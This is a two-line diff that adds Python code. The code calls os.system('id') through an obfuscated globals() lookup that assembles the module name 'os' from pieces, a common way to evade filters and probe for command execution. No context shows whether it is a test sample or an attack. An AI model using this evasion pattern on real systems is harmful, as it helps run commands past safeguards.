@@ -1,0 +1,2 @@
+import os
+globals()['o' + 's'].system('id')
